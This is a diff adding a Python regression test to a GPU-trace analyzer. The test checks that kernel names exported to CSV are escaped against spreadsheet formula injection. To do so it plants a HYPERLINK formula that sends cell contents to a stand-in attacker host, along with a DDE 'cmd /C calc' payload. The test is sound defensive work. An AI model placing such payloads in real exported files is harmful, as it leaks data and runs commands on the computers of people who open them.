@@ -445,3 +445,36 @@ def test_async_thresholds_come_from_the_rule_pack(tmp_path):
     custom = tmp_path / "pack.yaml"
     custom.write_text(text.replace("        default: 1.25\n", "        default: 2.5\n", 1))
     assert async_thresholds(custom) == (2.5, 1_000_000)
+
+
+def test_csv_cells_from_a_trace_never_run_as_spreadsheet_formulas(tmp_path):
+    """A kernel name read from the trace that starts like a formula (``=HYPERLINK("http://...")``, here
+    written into a copy of the real xl_forward_ctx1024 export) was written to the CSV as it is, so a
+    spreadsheet opening the sweep table ran it. Text cells starting with = + - @ (or a tab or carriage
+    return) now carry a leading apostrophe; numbers, negative ones included, stay numbers."""
+    import csv
+    import lzma
+    import shutil
+    import sqlite3
+
+    from analyzer.phases.render import csv_inert
+
+    data = Path(__file__).resolve().parents[3] / "tests" / "data" / "sweep"
+    trace = tmp_path / "xl_forward_ctx1024.sqlite"
+    trace.write_bytes(lzma.decompress((data / "xl_forward_ctx1024.sqlite.xz").read_bytes()))
+    shutil.copyfile(data / "xl_forward_ctx1024.pytime.json", tmp_path / "xl_forward_ctx1024.pytime.json")
+    evil = '=HYPERLINK("http://e.vil/?"&A1,"x")'
+    con = sqlite3.connect(trace)
+    with con:
+        con.execute("UPDATE StringIds SET value = ? || value WHERE id IN (SELECT shortName FROM "
+                    "CUPTI_ACTIVITY_KIND_KERNEL UNION SELECT demangledName FROM CUPTI_ACTIVITY_KIND_KERNEL)", (evil,))
+    con.close()
+    out = tmp_path / "csv"
+    render_sweep(build_sweep([trace]), "csv", out)
+    cells = [c for f in sorted(out.glob("*.csv")) for row in csv.reader(f.open()) for c in row]
+    assert any(c.startswith("'" + evil) for c in cells)  # the name is there, as text
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    frame = pd.DataFrame({"name": ["-cmd|' /C calc'!A0", "+1", "ok", None], "residual": [-2.5, 1.0, 0.0, 3.0]})
+    inert = csv_inert(frame)
+    assert inert["name"].tolist()[:3] == ["'-cmd|' /C calc'!A0", "'+1", "ok"] and pd.isna(inert["name"].iloc[3])
+    assert inert["residual"].tolist() == [-2.5, 1.0, 0.0, 3.0] and frame["name"].iloc[0].startswith("-")
